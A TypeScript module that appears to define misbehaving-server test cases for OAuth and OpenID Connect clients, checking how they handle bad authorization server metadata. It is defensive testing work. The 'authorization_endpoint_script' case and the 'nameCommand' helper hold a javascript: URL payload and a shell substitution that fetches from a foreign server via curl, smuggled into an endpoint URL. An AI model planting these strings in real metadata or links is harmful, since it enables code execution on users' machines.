/** Wrong metadata of the server (RFC 8414; OpenID Connect Discovery). */

import { textOf } from "../../../ground/http/body.ts";
import { isJsonObject } from "../../../ground/schema/json_object.ts";
import { withHeaders } from "../../../ground/http/message.ts";
import type { Members } from "../../../ground/values/members.ts";
import {
  answerInstead,
  changeMetadata,
  changeResponse,
  changeSigned,
  changeText,
  htmlPage,
  jsonAnswer,
  nameHttpEndpoint,
  notFound,
  publishForeign,
  redirectAnswer,
  removing,
  setting,
  signWithUnknownKey,
  writeUnsigned,
} from "../changes.ts";
import { countLogins } from "../count_logins.ts";
import {
  afterWrong,
  any,
  callsOtherServer,
  guessesEndpoint,
  redeemsCode,
  startsLogin,
  to,
  trustsOtherServer,
  usesAccessToken,
  usesOtherServer,
  usesReceivedToken,
  where,
} from "../finds.ts";
import type { Acts, CreateActs, Tools, Watch } from "../misbehaviour.ts";
import { spellIssuer, writeIssuer } from "../neighbours.ts";
import type { Find } from "../seen.ts";
import { type FaultsOf, faultsOf, maySkipSignature } from "../faults_of.ts";

const refuses: Watch = { never: afterWrong("metadata", any(startsLogin, guessesEndpoint)) };

/** Whether the parameters are in the query, and not pushed or in a signed request. */
const isComplete = (params: URLSearchParams): boolean => !params.has("request_uri") && !params.has("request");

function startsLoginWith(matches: (params: URLSearchParams) => boolean): Find {
  return where(startsLogin, ({ params }) => isComplete(params) && matches(params));
}

/** A client may need each of the others, which say what the server supports besides. */
const dispensable = ["scopes", "grant_types", "claims", "prompt_values", "ui_locales"]
  .map((name) => `${name}_supported`);

/** The client verifies no signature, and asks for keys at no address. */
const refusesKeys: Watch = {
  never: afterWrong("metadata", any(usesAccessToken, to("jwks"))),
  invisible: true,
};

export const metadata: FaultsOf<"metadata"> = faultsOf("metadata", {
  level: "hardening",
  phase: "login",
  watch: refuses,
  tolerated: { watch: { sign: startsLogin } },
}, {
  issuer_mismatch: {
    level: "must",
    server: "The issuer in the metadata is not the one whose metadata the client asked for.",
    client: "Refuses the metadata and uses nothing of it.",
    rule: "RFC 8414 §3.3, §4; OpenID Connect Discovery §4.3",
    bugs: ["typescript-sdk#2344"],
    acts: changeMetadata(setting((tools) => ({ issuer: writeIssuer(tools) }))),
  },
  issuer_slash: {
    level: "must",
    server: "The issuer in the metadata is in another spelling.",
    client: "Refuses the metadata, because the issuer must be identical.",
    rule: "RFC 8414 §3.3, §4; OpenID Connect Discovery §4.3",
    acts: changeMetadata(setting((tools) => ({ issuer: spellIssuer(tools) }))),
  },
  issuer_missing: {
    level: "must",
    server: "The metadata has no issuer.",
    client: "Refuses the metadata.",
    rule: "RFC 8414 §2, §3.3; OpenID Connect Discovery §4.3",
    acts: changeMetadata(removing("issuer")),
  },
  impostor: {
    level: "must",
    server: "The metadata is that of another server. Its issuer and its endpoints fit together.",
    client: "Refuses the metadata, and sends no browser to the other server.",
    rule: "RFC 8414 §3.3; OpenID Connect Discovery §4.3",
    bugs: ["typescript-sdk#2344"],
    needs: ["metadata"],
    watch: { never: callsOtherServer },
    acts: changeMetadata((members, { issuer, otherServer }) =>
      JSON.parse(JSON.stringify(members).replaceAll(issuer, otherServer))
    ),
  },
  pkce_missing: {
    level: "must",
    needs: ["public_client"],
    server: "The metadata does not say that the server supports PKCE.",
    client: "Uses PKCE nevertheless, or refuses the server.",
    rule: "RFC 9700 §2.1.1: a duty of public clients",
    watch: {
      never: startsLoginWith((params) => !params.has("code_challenge")),
      sign: startsLoginWith((params) => params.has("code_challenge")),
      signSays: "used PKCE",
    },
    acts: changeMetadata(removing("code_challenge_methods_supported")),
  },
  pkce_plain_only: {
    level: "must",
    server: "The metadata says that the server supports only the PKCE method plain.",
    client: "Uses S256 nevertheless, or refuses the server.",
    rule: "RFC 7636 §4.2",
    needs: ["pkce"],
    watch: {
      never: startsLoginWith((params) => params.get("code_challenge_method") !== "S256"),
      sign: startsLoginWith((params) => params.get("code_challenge_method") === "S256"),
      signSays: "sent code_challenge_method=S256",
    },
    acts: changeMetadata(setting({ code_challenge_methods_supported: ["plain"] })),
  },
  token_endpoint_http: {
    level: "must",
    server: "The token endpoint in the metadata is an http URL of a public host.",
    client: "Sends no code and no secret there, because others can read them.",
    rule:
      "OpenID Connect Core §3.1.3; RFC 6749 §10.3; OAuth 2.1 §1.5; MCP 2026-07-28, Security Considerations",
    needs: ["metadata", "world_reachable"],
    control: "metadata.token_endpoint_host",
    watch: { never: trustsOtherServer },
    acts: nameHttpEndpoint("token_endpoint"),
  },
  token_endpoint_host: {
    level: "robustness",
    server: "The token endpoint in the metadata is at another host of the same server.",
    client: "Sends the code there, because the metadata of the issuer names the host.",
    rule: "RFC 8414 §2: no rule says that all endpoints are at one host",
    needs: ["metadata", "world_reachable"],
    watch: { sign: redeemsCode },
    acts: changeUrl(
      "token_endpoint",
      (url, { also: [origin] }) => origin === undefined ? url : new URL(new URL(url).pathname, origin).href,
    ),
  },
  revocation_endpoint_http: {
    level: "must",
    phase: "logout",
    server: "The revocation endpoint in the metadata is an http URL of a public host.",
    client: "Sends no token there, because it has to check that the URL is https.",
    rule: "RFC 7009 §2",
    needs: ["metadata", "revocation", "world_reachable"],
    watch: { never: trustsOtherServer },
    acts: nameHttpEndpoint("revocation_endpoint"),
  },
  revocation_endpoint_missing: {
    phase: "logout",
    server: "The metadata has no revocation endpoint.",
    client: "Reports that nothing is revoked, and guesses no address.",
    rule: "RFC 8414 §2: the member is optional, but no rule says what a client does without it",
    needs: ["metadata", "revocation"],
    watch: { never: afterWrong("metadata", any(to("revoke"), guessesEndpoint)) },
    acts: changeMetadata(removing("revocation_endpoint")),
  },
  jwks_uri_missing: {
    server: "The metadata has no jwks_uri.",
    client: "Guesses no address, and refuses the ID token, because it cannot verify it.",
    rule: `RFC 8414 §2: the member is optional; ${maySkipSignature}`,
    needs: ["metadata", "keys"],
    watch: refusesKeys,
    acts: changeMetadata(removing("jwks_uri")),
  },
  jwks_uri_relative: {
    server: "The jwks_uri in the metadata is a path without scheme and host.",
    client: "Loads no keys, because the host is unknown, and refuses the ID token.",
    rule: `RFC 8414 §2: the value is a URL; ${maySkipSignature}`,
    needs: ["metadata", "keys"],
    watch: refusesKeys,
    acts: changeUrl("jwks_uri", (url) => new URL(url).pathname),
  },
  jwks_uri_http: {
    server: "The jwks_uri in the metadata is an http URL of a public host.",
    client: "Loads no keys there, because others can replace them on their way.",
    rule: "RFC 8414 §2: https is a duty of the server",
    needs: ["metadata", "keys", "world_reachable"],
    watch: { never: callsOtherServer },
    acts: nameHttpEndpoint("jwks_uri"),
  },
  jwks_uri_moved: {
    level: "robustness",
    server:
      "After the first login, the metadata names another jwks_uri. The old one answers 404, and a new key signs.",
    client: "Loads the metadata again, and takes the keys from the new address.",
    rule: `OpenID Connect Core §10.1.1, RFC 8414 §3.2: metadata and keys change; ${maySkipSignature}`,
    needs: ["metadata", "keys", "two_logins"],
    watch: { sign: usesReceivedToken },
    acts: moveKeys,
  },
  authorization_endpoint_script: {
    server: "The authorization endpoint in the metadata would run code at the client.",
    client: "Opens only an https URL, or an http URL of this machine, and hands it to no shell.",
    rule: "RFC 8414 §2: the value is a URL, but no rule says what a client does otherwise",
    needs: ["metadata"],
    bugs: ["CVE-2025-58444", "CVE-2025-6514"],
    watch: { never: callsOtherServer, sign: to("authorize"), signSays: "opened a page of this server" },
    acts: (tools) =>
      tools.variant === "shell" ? nameCommand(tools) : changeMetadata(setting(({ otherServer }) => ({
        authorization_endpoint: `javascript:location='${otherServer}/script'//`,
      })))(tools),
  },
  alg_none_listed: {
    level: "should",
    server: "The metadata lists the alg none for ID tokens, and the ID token is unsigned.",
    client: "Refuses the ID token, because it did not register for unsigned ID tokens.",
    rule: "OpenID Connect Core §3.1.3.7 (7); RFC 8725 §3.2",
    control: "itself",
    watch: { never: usesReceivedToken, invisible: true },
    prepares: ["metadata"],
    acts(tools) {
      let isListed = false;
      return {
        metadata(members) {
          isListed = true;
          const { id_token_signing_alg_values_supported: algs } = members;
          return { ...members, id_token_signing_alg_values_supported: [algs ?? [], "none"].flat() };
        },
        ...changeSigned("id_token", (jwt) => isListed ? writeUnsigned(jwt) : jwt.text)(tools),
      };
    },
  },
  gone_at_refresh: {
    phase: "refresh",
    server: "After the login, requests for the metadata get the status 404.",
    client: "Uses the token endpoint that it knows, or gives up. Does not guess another address.",
    rule: "RFC 9700 §4.14: refresh tokens need protection, but no rule forbids guessing",
    bugs: ["LibreChat#12266", "python-sdk#3240"],
    watch: { never: guessesEndpoint, sign: to("token"), signSays: "used the token endpoint that it knows" },
    acts(tools) {
      let hasTokens = false;
      return {
        token_response(value) {
          hasTokens = true;
          return value;
        },
        ...answerInstead("metadata", () => hasTokens ? notFound : undefined)(tools),
      };
    },
  },
  endpoint_missing: {
    server: "The metadata has no token endpoint.",
    client: "Refuses the metadata, and guesses no address.",
    rule: "RFC 8414 §2: the member is required, but no rule says what a client does without it",
    watch: { never: afterWrong("metadata", any(redeemsCode, guessesEndpoint)) },
    acts: changeMetadata(removing("token_endpoint")),
  },
  endpoint_relative: {
    server: "The token endpoint in the metadata is a path without scheme and host.",
    client: "Refuses the metadata, because the host is unknown.",
    rule: "RFC 8414 §2: the value is a URL, but no rule says what a client does otherwise",
    watch: { never: afterWrong("metadata", redeemsCode) },
    acts: changeUrl("token_endpoint", (url) => new URL(url).pathname),
  },
  html_200: {
    server:
      "The metadata is an HTML page with the status 200, as a single-page application answers every path.",
    client: "Refuses the server, and guesses no address.",
    rule: "RFC 8414 §3.2: a success is JSON, but no rule says what a client does otherwise",
    acts: answerInstead("metadata", htmlPage),
  },
  status_500: {
    server: "The metadata comes with the status 500.",
    client: "Refuses the server, because the response is an error.",
    rule: "RFC 8414 §3.2: a success has the status 200, but no rule says what a client does otherwise",
    acts: changeResponse("metadata", (answer) => ({ ...answer, status: 500 })),
  },
  redirect_foreign: {
    server: "A request for the metadata is redirected to a foreign host.",
    client: "Does not follow the redirect, or refuses the metadata of another issuer.",
    rule: "RFC 8414 §3.3: the issuer must be the right one, but no rule forbids following a redirect",
    watch: {
      never: usesOtherServer,
      sign: any(startsLogin, guessesEndpoint),
      signSays: "went on without the foreign metadata",
    },
    acts: answerInstead(
      "metadata",
      ({ otherServer }, { exchange: { request: { address } } }) =>
        redirectAnswer(`${otherServer}${address.path}`),
    ),
  },
  huge: {
    server: "The metadata has 5 MB.",
    client: "Stops reading after a limit of its own.",
    rule: "RFC 8414 §3.2: no rule limits the size; CWE-770",
    isLarge: true,
    control: "metadata.unknown_members",
    acts: changeMetadata(setting(() => ({ "https://as.test/padding": "x".repeat(5_000_000) }))),
  },
  only_openid_configuration: {
    level: "tolerate",
    server: "The metadata is not at the address of RFC 8414, but at the one of OpenID Connect.",
    client: "Tries the other address.",
    rule: "MCP 2026-07-28, Authorization Server Metadata Discovery",
    needs: ["mcp", "oauth_metadata_first"],
    bugs: ["inspector#563"],
    acts: answerInstead(
      "metadata",
      (_tools, { exchange: { request: { address } } }) =>
        address.path.includes("oauth-authorization-server") ? notFound : undefined,
    ),
  },
  only_at_inserted_path: {
    level: "tolerate",
    paths: { issuer: "/shop" },
    server: "The issuer has a path, and the metadata is only at the address in which the path comes last.",
    client: "Puts /.well-known/oauth-authorization-server between the host and the path.",
    rule: "RFC 8414 §3.1",
    needs: ["oauth_metadata_first"],
    acts: changeResponse("metadata", (answer, { issuer }, { exchange: { request: { address } } }) => {
      const { pathname } = new URL(issuer);
      if (pathname === "/") return answer;
      // The answer is as usual, but its address is not.
      return address.path === `/.well-known/oauth-authorization-server${pathname}` ? { ...answer } : notFound;
    }),
  },
  content_charset: {
    level: "tolerate",
    server: "The content type of the metadata has a charset.",
    client: "Reads the metadata, because parameters of a content type may be present.",
    rule: "RFC 8259 §11: a charset has no effect on compliant recipients; RFC 9110 §8.3.1",
    acts: changeResponse(
      "metadata",
      (answer) => withHeaders(answer, { "content-type": "application/json;charset=UTF-8" }),
    ),
  },
  minimal: {
    level: "tolerate",
    server:
      "The metadata has neither scopes_supported nor grant_types_supported nor other members that only inform.",
    client: "Uses the defaults of the missing members.",
    rule: "RFC 8414 §2; OpenID Connect Discovery §3",
    acts: changeMetadata(removing(...dispensable)),
  },
  scopes_partial: {
    level: "robustness",
    server: "The scopes in the metadata lack some that the server supports.",
    client: "Asks for the scopes that it needs.",
    rule: "RFC 8414 §2: a server may leave scopes out; OpenID Connect Discovery §3",
    acts: changeMetadata(setting({ scopes_supported: ["openid"] })),
  },
  endpoint_query: {
    level: "tolerate",
    server: "The URL of the authorization endpoint has a query of its own.",
    client: "Keeps the query, and adds its parameters to it.",
    rule: "RFC 6749 §3.1",
    watch: {
      never: to("authorize", ({ params }) => params.get("tenant") !== "postern"),
      sign: to("authorize", ({ params }) => params.get("tenant") === "postern"),
    },
    acts: addQuery("authorization_endpoint"),
  },
  token_endpoint_query: {
    level: "tolerate",
    server: "The URL of the token endpoint has a query of its own.",
    client: "Keeps the query in its requests.",
    rule: "RFC 6749 §3.2",
    needs: ["metadata"],
    watch: {
      never: to("token", ({ params }) => params.get("tenant") !== "postern"),
      sign: to("token", ({ params }) => params.get("tenant") === "postern"),
    },
    acts: addQuery("token_endpoint"),
  },
  slow: {
    level: "robustness",
    server: "The metadata comes in two parts, with half a second between them.",
    client: "Waits for the end.",
    rule: "RFC 9112 §6.3: the framing says where a response ends, and no rule says how long a client waits",
    needs: ["metadata"],
    acts: changeResponse(
      "metadata",
      (answer, { wait }) => ({ ...answer, body: sendInTwo(textOf(answer.body), wait) }),
    ),
  },
  mtls_aliases: {
    level: "robustness",
    server: "The metadata names other endpoints for clients with certificates.",
    client: "Uses the usual endpoints, because it has no certificate.",
    needs: ["no_certificate"],
    rule: "RFC 8705 §5: they are for clients that use mutual TLS",
    watch: { never: callsOtherServer, sign: redeemsCode },
    acts: changeMetadata(setting(({ otherServer }) => ({
      mtls_endpoint_aliases: { token_endpoint: `${otherServer}/token` },
    }))),
  },
  unknown_members: {
    level: "robustness",
    server: "The metadata has unknown members with unusual values.",
    client: "Ignores the members that it does not understand.",
    rule:
      "RFC 8414 §2, OpenID Connect Discovery §3: there may be others, but no rule says that a client ignores them",
    acts: changeMetadata(setting({ "https://as.test/list": [[1], { deep: null }], unknown: null, "": true })),
  },
});

function changeUrl(name: string, change: (url: string, tools: Tools) => string): CreateActs {
  return changeMetadata((metadata, tools) => changeText(metadata, name, (url) => change(url, tools)));
}

/** The same endpoint may have another URL for clients with certificates (RFC 8705 §5). */
function addQuery(name: string): CreateActs {
  const change = (members: Members) => changeText(members, name, (url) => `${url}?tenant=postern`);
  return changeMetadata((metadata) => {
    const { [aliases]: others } = metadata;
    return { ...change(metadata), ...isJsonObject(others) ? { [aliases]: change(others) } : {} };
  });
}

const aliases = "mtls_endpoint_aliases";

/** A shell runs the command, even inside of double quotes. For a browser, the path leads to the right page. */
function nameCommand(tools: Tools): Acts {
  let right: URL | undefined;
  // A URL has no spaces.
  const command = `$(curl$IFS$9-s$IFS$9${tools.otherServer}/shell)`;
  return {
    ...changeUrl("authorization_endpoint", (url) => (right = new URL(url), `${url}/${command}`))(tools),
    arrival(value, { exchange: { request: { address: { path, query } } } }) {
      if (right === undefined || !path.startsWith(`${right.pathname}/`)) return value;
      return { ...value, answer: redirectAnswer(`${right.href}?${query}`) };
    },
  };
}

/** Moves the keys after the first login. */
function moveKeys(tools: Tools): Acts {
  const url = new URL(`${tools.issuer.replace(/\/$/, "")}/keys/moved`);
  let keys: readonly Members[] = [];
  const { acts, number, begin } = countLogins((jwt) => {
    // It still signs what is no ID token.
    const { publicJwk } = jwt.signer;
    keys = [publicJwk];
    if (number() === 1) return undefined;
    keys = [publishForeign(publicJwk.alg, tools), publicJwk];
    return signWithUnknownKey(jwt, tools);
  }, tools);
  return {
    ...acts,
    metadata(members) {
      begin();
      return number() === 1 ? members : { ...members, jwks_uri: url.href };
    },
    arrival(value, at) {
      const { endpoint, exchange: { request: { address } } } = at;
      void acts.arrival(value, at);
      if (number() === 1) return value;
      if (endpoint === "jwks") return { ...value, answer: notFound };
      return address.path === url.pathname ? { ...value, answer: jsonAnswer(200, { keys }) } : value;
    },
  };
}

function sendInTwo(text: string, wait: Tools["wait"]): ReadableStream<Uint8Array> {
  const bytes = new TextEncoder().encode(text);
  const parts = [bytes.slice(0, 100), bytes.slice(100)];
  return new ReadableStream({
    async pull(controller) {
      if (parts.length === 1) await wait(0.5);
      controller.enqueue(parts.shift()!);
      if (parts.length === 0) controller.close();
    },
  }, { highWaterMark: 0 });
}
